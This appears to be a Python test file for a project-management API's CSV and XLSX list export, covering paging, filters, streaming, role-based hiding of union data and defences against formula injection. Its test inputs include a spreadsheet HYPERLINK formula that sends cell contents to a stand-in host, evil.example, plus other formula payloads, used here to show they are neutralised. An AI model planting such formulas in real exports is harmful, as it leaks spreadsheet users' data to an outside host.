"""Lists as CSV and XLSX files: every page, the same filters and access, streamed."""

import csv
import io
import uuid

from openpyxl import load_workbook  # type: ignore[import-untyped]

from samskap.kit.export import CSV_MEDIA_TYPE, EXPORT_PAGE_SIZE, XLSX_MEDIA_TYPE
from samskap.models import Task
from samskap.models.enums import Priority, TaskStatus
from tests.factories import (
    API,
    make_goal,
    make_indicator,
    make_involvement,
    make_person,
    make_programme,
    make_project,
    make_task,
)

TASKS = 2 * EXPORT_PAGE_SIZE + 200


def read_csv(response) -> list[dict[str, str]]:
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response) -> list[dict[str, object]]:
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    header, *rows = sheet.iter_rows(values_only=True)
    # A read-only sheet leaves out the empty cells at the end of a row.
    return [
        dict(zip(header, row + (None,) * (len(header) - len(row)), strict=True)) for row in rows
    ]


async def many_tasks(app, project: dict) -> None:
    """`TASKS` tasks straight through the ORM: a tenth of them urgent."""
    async with app.state.sessions() as session:
        session.add_all(
            Task(
                programme_id=uuid.UUID(project["programme_id"]),
                project_id=uuid.UUID(project["id"]),
                title=f"Oppgåve {n} for Ærø",
                status=TaskStatus.todo,
                priority=Priority.urgent if n % 10 == 0 else Priority.normal,
                version=1,
            )
            for n in range(TASKS)
        )
        await session.commit()


class TestListAsCsv:
    async def test_every_row_once_over_several_pages(self, app, client):
        project = await make_project(client, await make_programme(client))
        await many_tasks(app, project)
        r = await client.get(f"{API}/tasks", params={"format": "csv"})
        assert r.status_code == 200, r.text
        assert r.headers["content-type"].startswith(CSV_MEDIA_TYPE)
        assert r.headers["content-disposition"] == 'attachment; filename="tasks.csv"'
        rows = read_csv(r)
        assert len(rows) == TASKS
        assert len({row["id"] for row in rows}) == TASKS
        assert {row["title"] for row in rows} == {f"Oppgåve {n} for Ærø" for n in range(TASKS)}

    async def test_columns_are_the_json_fields_in_order(self, client):
        project = await make_project(client, await make_programme(client))
        task = await make_task(client, project, title="Bølgje", description=None)
        r = await client.get(f"{API}/tasks", headers={"Accept": CSV_MEDIA_TYPE})
        header = next(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
        assert header == list(task)
        [row] = read_csv(r)
        assert row["title"] == "Bølgje"
        assert row["description"] == ""
        assert row["created_at"] == task["created_at"]

    async def test_filters_and_sort_apply(self, app, client):
        project = await make_project(client, await make_programme(client))
        await many_tasks(app, project)
        r = await client.get(
            f"{API}/tasks", params={"format": "csv", "priority": "urgent", "sort": "-title"}
        )
        rows = read_csv(r)
        assert len(rows) == TASKS // 10
        assert {row["priority"] for row in rows} == {"urgent"}
        titles = [row["title"] for row in rows]
        assert titles == sorted(titles, reverse=True)

    async def test_is_streamed(self, client):
        project = await make_project(client, await make_programme(client))
        await make_task(client, project)
        r = await client.get(f"{API}/tasks", params={"format": "csv"})
        assert r.status_code == 200
        assert "content-length" not in r.headers
        json_list = await client.get(f"{API}/tasks")
        assert "content-length" in json_list.headers


class TestListAsXlsx:
    async def test_every_row_once_and_norwegian_letters(self, app, client):
        project = await make_project(client, await make_programme(client))
        await many_tasks(app, project)
        r = await client.get(f"{API}/tasks", headers={"Accept": XLSX_MEDIA_TYPE})
        assert r.status_code == 200, r.text
        assert r.headers["content-type"] == XLSX_MEDIA_TYPE
        assert r.headers["content-disposition"] == 'attachment; filename="tasks.xlsx"'
        assert "content-length" not in r.headers
        rows = read_xlsx(r)
        assert len({row["id"] for row in rows}) == len(rows) == TASKS
        assert {row["title"] for row in rows} == {f"Oppgåve {n} for Ærø" for n in range(TASKS)}

    async def test_format_parameter_and_filters(self, client):
        project = await make_project(client, await make_programme(client))
        await make_task(client, project, title="=Sum av æøå", priority="high")
        await make_task(client, project, title="Lav", priority="low")
        r = await client.get(f"{API}/tasks", params={"format": "xlsx", "priority": "high"})
        [row] = read_xlsx(r)
        assert row["title"] == "=Sum av æøå"
        assert row["priority"] == "high"


class TestFormatChoice:
    async def test_unknown_format_is_refused(self, client):
        r = await client.get(f"{API}/tasks", params={"format": "pdf"})
        assert r.status_code == 422
        assert r.headers["content-type"] == "application/problem+json"
        assert r.json()["status"] == 422

    async def test_paging_parameters_are_refused_for_a_file(self, client):
        r = await client.get(f"{API}/tasks", params={"format": "csv", "limit": 10})
        assert r.status_code == 400
        assert r.headers["content-type"] == "application/problem+json"
        assert [e["parameter"] for e in r.json()["errors"]] == ["limit"]

    async def test_json_stays_the_default(self, client):
        project = await make_project(client, await make_programme(client))
        await make_task(client, project)
        r = await client.get(f"{API}/tasks", params={"format": "json"})
        assert r.headers["content-type"] == "application/json"
        assert len(r.json()["items"]) == 1
        assert (await client.get(f"{API}/tasks")).json() == r.json()


class TestExportAccess:
    async def test_an_observer_sees_no_union_and_no_participant(self, client, accounts):
        programme = await make_programme(client)
        rep = await make_person(
            client,
            programme,
            name="Åse Tillitsvalgt",
            affiliation="union_representative",
            union="Fagforbundet",
        )
        others = [await make_person(client, programme) for _ in range(2)]
        await make_involvement(
            client, programme, participant_ids=[rep["id"], *(p["id"] for p in others)]
        )
        observer = await accounts.role(programme, "observer")
        for fmt in ("csv", "xlsx"):
            people = await observer.get(f"{API}/people", params={"format": fmt})
            involvements = await observer.get(f"{API}/involvements", params={"format": fmt})
            rows = read_csv(people) if fmt == "csv" else read_xlsx(people)
            shown = (await observer.get(f"{API}/people")).json()["items"]
            assert sorted(str(row["name"]) for row in rows) == sorted(p["name"] for p in shown)
            assert {row["union"] for row in rows} <= {"", None}
            assert "Fagforbundet" not in people.text
            [involvement] = read_csv(involvements) if fmt == "csv" else read_xlsx(involvements)
            assert involvement["participant_ids"] in ("", None)
            assert str(involvement["participant_count"]) == "3"
            assert rep["id"] not in involvements.text

    async def test_members_see_participants_and_admins_the_union(self, client, accounts):
        programme = await make_programme(client)
        rep = await make_person(
            client, programme, affiliation="union_representative", union="Fagforbundet"
        )
        other = await make_person(client, programme)
        await make_involvement(client, programme, participant_ids=[rep["id"], other["id"]])
        member = await accounts.role(programme, "member")
        [involvement] = read_csv(await member.get(f"{API}/involvements", params={"format": "csv"}))
        assert sorted(involvement["participant_ids"].split("; ")) == sorted(
            [rep["id"], other["id"]]
        )
        admin = await accounts.role(programme, "programme_admin")
        rows = read_csv(await admin.get(f"{API}/people", params={"format": "csv"}))
        assert {row["union"] for row in rows} == {"Fagforbundet", ""}
        # Reading the union is logged, as it is in JSON.
        events = (
            await client.get(
                f"{API}/audit-events",
                params={"record_id": rep["id"], "action": "read_special_category"},
            )
        ).json()["items"]
        assert events

    async def test_other_programmes_are_not_in_the_file(self, client, accounts):
        mine = await make_programme(client)
        theirs = await make_programme(client)
        await make_task(client, await make_project(client, mine), title="Min")
        await make_task(client, await make_project(client, theirs), title="Deira")
        observer = await accounts.role(mine, "observer")
        rows = read_csv(await observer.get(f"{API}/tasks", params={"format": "csv"}))
        assert [row["title"] for row in rows] == ["Min"]


class TestFormulaInjection:
    """A text cell one user wrote must not run as a formula in another user's spreadsheet."""

    HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klikk")'

    async def formulas(self, client) -> dict:
        programme = await make_programme(client)
        await make_person(client, programme, name=self.HYPERLINK)
        project = await make_project(client, programme)
        await make_task(client, project, title="+1")
        await make_task(client, project, title="-åpen")
        await make_task(client, project, title="@SUM(A1)")
        await make_task(client, project, title="Vanleg = tekst", due_on="2018-09-06")
        goal = await make_goal(client, programme, kind="effect")
        await make_indicator(
            client, goal, name="Sjukefråvær", target_value=-2.5, target_on="2020-01-01"
        )
        return programme

    async def test_csv_puts_an_apostrophe_before_formula_text(self, client):
        await self.formulas(client)
        [person] = read_csv(await client.get(f"{API}/people", params={"format": "csv"}))
        assert person["name"] == "'" + self.HYPERLINK
        tasks = read_csv(await client.get(f"{API}/tasks", params={"format": "csv"}))
        assert sorted(row["title"] for row in tasks) == sorted(
            ["'+1", "'-åpen", "'@SUM(A1)", "Vanleg = tekst"]
        )
        [plain] = [row for row in tasks if row["title"] == "Vanleg = tekst"]
        assert plain["due_on"] == "2018-09-06"
        assert {row["description"] for row in tasks} == {""}

    async def test_csv_leaves_negative_numbers_alone(self, client):
        await self.formulas(client)
        [indicator] = read_csv(await client.get(f"{API}/indicators", params={"format": "csv"}))
        assert indicator["target_value"] == "-2.5"
        assert indicator["name"] == "Sjukefråvær"

    async def test_an_exported_csv_imports_back_without_the_apostrophes(self, client):
        source = await make_programme(client)
        names = [self.HYPERLINK, "=SUM(A1)", "-åpen", "'=A1", "O'Brien"]
        for number, name in enumerate(names):
            await make_person(client, source, name=name, external_id=f"HR-{number}")
        exported = read_csv(
            await client.get(
                f"{API}/people", params={"programme_id": source["id"], "format": "csv"}
            )
        )
        assert "'=SUM(A1)" in {row["name"] for row in exported}
        columns = ["external_id", "name", "email", "affiliation"]
        text = io.StringIO()
        writer = csv.writer(text)
        writer.writerow(columns)
        writer.writerows([row[c] for c in columns] for row in exported)
        target = await make_programme(client)
        r = await client.post(
            f"{API}/imports",
            params={"programme_id": target["id"], "resource": "people"},
            files={"file": ("personar.csv", text.getvalue().encode(), "text/csv")},
        )
        assert r.status_code == 201, r.text
        assert r.json()["counts"]["created"] == len(names)
        r = await client.get(f"{API}/people", params={"programme_id": target["id"]})
        assert sorted(p["name"] for p in r.json()["items"]) == sorted(names)

    async def test_tab_and_carriage_return_at_the_start_are_guarded(self):
        from samskap.kit.export import csv_safe

        assert csv_safe("\tx") == "'\tx"
        assert csv_safe("\rx") == "'\rx"
        assert csv_safe("x=1") == "x=1"
        assert csv_safe(-3) == -3
        assert csv_safe(-0.5) == -0.5

    async def test_xlsx_writes_formula_text_as_string_cells(self, client):
        await self.formulas(client)
        for path, column, expected in (
            ("people", "name", {self.HYPERLINK}),
            ("tasks", "title", {"+1", "-åpen", "@SUM(A1)", "Vanleg = tekst"}),
        ):
            r = await client.get(f"{API}/{path}", params={"format": "xlsx"})
            sheet = load_workbook(io.BytesIO(r.content)).active
            header = [c.value for c in sheet[1]]
            cells = [row[header.index(column)] for row in sheet.iter_rows(min_row=2)]
            assert {c.value for c in cells} == expected
            assert {c.data_type for c in cells} == {"s"}
            assert b"<f>" not in r.content and b"<x:f>" not in r.content

    async def test_xlsx_keeps_negative_numbers_as_numbers(self, client):
        await self.formulas(client)
        r = await client.get(f"{API}/indicators", params={"format": "xlsx"})
        sheet = load_workbook(io.BytesIO(r.content)).active
        header = [c.value for c in sheet[1]]
        target = sheet.cell(row=2, column=header.index("target_value") + 1)
        assert target.value == -2.5
        assert target.data_type == "n"
